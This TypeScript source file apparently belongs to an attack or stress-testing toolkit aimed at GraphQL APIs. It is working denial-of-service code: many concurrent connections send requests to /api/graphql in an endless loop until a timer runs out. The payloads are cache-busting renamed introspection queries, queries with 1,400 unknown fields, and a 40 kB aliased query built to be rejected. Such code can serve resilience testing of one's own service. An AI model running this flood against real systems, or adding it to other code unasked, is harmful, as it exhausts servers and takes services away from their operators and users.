import { getIntrospectionQuery } from 'graphql'
import { AttackCounts, type AttackReport, type AttackTarget } from './attack.ts'

interface ShortQuestions {
  /** Each asks its next question as soon as it has an answer. */
  readonly connections: number
  readonly forMs: number
  /** The nth question. */
  readonly question: (n: number) => string
}

/** Asks one short question after the other over some connections: none of them takes long, and together they never end. */
export async function askShortQuestions(
  { origin, token }: AttackTarget,
  { connections, forMs, question }: ShortQuestions,
): Promise<AttackReport> {
  const counts = new AttackCounts()
  const until = performance.now() + forMs
  const ask = async (): Promise<void> => {
    while (performance.now() < until) {
      counts.sent += 1
      try {
        const response = await fetch(`${origin}/api/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${token ?? ''}` },
          body: JSON.stringify({ query: question(counts.sent) }),
        })
        await response.arrayBuffer()
        counts.answered(response.status)
      } catch {
        counts.hungUp += 1
      }
    }
  }
  await Promise.all(Array.from({ length: connections }, ask))
  return counts.report()
}

/** What describes the whole API. */
export function introspection(): string {
  return getIntrospectionQuery()
}

/** The same, each under another name, so that no cached answer fits. */
export function rewordedIntrospection(n: number): string {
  return introspection().replace('IntrospectionQuery', `Whole${process.pid}x${n}`)
}

/** As many unknown fields as an operation may have, different ones each time. */
export function invalidQuestion(n: number): string {
  return `{ ${Array.from({ length: 1_400 }, (_, at) => `f${n}x${at}`).join(' ')} }`
}

/** A question of 40 kB that is refused for how much it asks for, each another one. */
export function refusedQuestion(n: number): string {
  return `{ ${Array.from({ length: 1_400 }, (_, at) => `a${n}x${at}: __typename`).join(' ')} }`
}
